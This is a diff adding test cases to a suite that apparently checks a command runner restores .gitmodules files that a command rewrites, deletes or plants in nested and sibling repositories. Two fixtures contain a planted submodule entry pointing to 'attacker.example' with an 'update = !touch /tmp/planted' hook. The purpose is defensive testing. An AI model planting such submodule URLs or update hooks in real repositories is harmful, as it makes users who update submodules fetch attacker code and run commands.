@@ -71,6 +71,45 @@ describe('repositories the command did not start in', () => {
     expect(result.metadata.restored_protected_files).toEqual([path('r3/.git/config'), path('r3/.git/hooks/post-checkout')]);
   });
 
+  it('puts back the .gitmodules a command rewrites in a nested repository, and takes out one it makes in a sibling', async () => {
+    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/dep.git\n');
+    git(path('vendor/lib'), 'add', '.gitmodules');
+    git(path('vendor/lib'), 'commit', '-qm', 'modules');
+    repository('r3');
+    const before = read('vendor/lib/.gitmodules');
+    // The user's later `git submodule update` would clone what the planted URL serves.
+    const planted = "'[submodule \\\"dep\\\"]\\n\\tpath = dep\\n\\turl = https://attacker.example/dep.git\\n\\tupdate = !touch /tmp/planted\\n'";
+    const result = await python(`open('vendor/lib/.gitmodules', 'w').write(${planted})\nopen('r3/.gitmodules', 'w').write(${planted})`);
+    expect(read('vendor/lib/.gitmodules')).toBe(before);
+    expect(existsSync(path('r3/.gitmodules'))).toBe(false);
+    expect(result.success).toBe(false);
+    expect(result.metadata.restored_protected_files).toEqual([path('r3/.gitmodules'), path('vendor/lib/.gitmodules')]);
+    expect(result.error).toContain(`[protected files were changed and have been restored: ${path('r3/.gitmodules')}, ${path('vendor/lib/.gitmodules')}]`);
+  });
+
+  it('puts back a nested .gitmodules a command deletes, and one it renames a staged file over', async () => {
+    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/dep.git\n');
+    repository('r3');
+    writeFileSync(path('r3/.gitmodules'), '[submodule "x"]\n\tpath = x\n\turl = https://example.com/x.git\n');
+    writeFileSync(path('staged'), '[submodule "x"]\n\tpath = x\n\turl = https://attacker.example/x.git\n');
+    const [lib, r3] = [read('vendor/lib/.gitmodules'), read('r3/.gitmodules')];
+    await new Promise((resolve) => setTimeout(resolve, 120));
+    const result = await python("import os\nos.remove('vendor/lib/.gitmodules')\nos.rename('staged', 'r3/.gitmodules')");
+    expect(read('vendor/lib/.gitmodules')).toBe(lib);
+    expect(read('r3/.gitmodules')).toBe(r3);
+    expect(result.metadata.restored_protected_files).toEqual([path('r3/.gitmodules'), path('vendor/lib/.gitmodules')]);
+  });
+
+  it('keeps a nested .gitmodules the user changed before the command', async () => {
+    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/dep.git\n');
+    await bash('ls');
+    writeFileSync(path('vendor/lib/.gitmodules'), '[submodule "dep"]\n\tpath = dep\n\turl = https://example.com/moved.git\n');
+    await new Promise((resolve) => setTimeout(resolve, 120));
+    const result = await bash('ls');
+    expect(result.error).toBe('');
+    expect(read('vendor/lib/.gitmodules')).toContain('moved.git');
+  });
+
   it('puts back a .git renamed away and replaced by a planted one, and keeps the moved one as it was', async () => {
     const before = read('vendor/lib/.git/config');
     const result = await python(
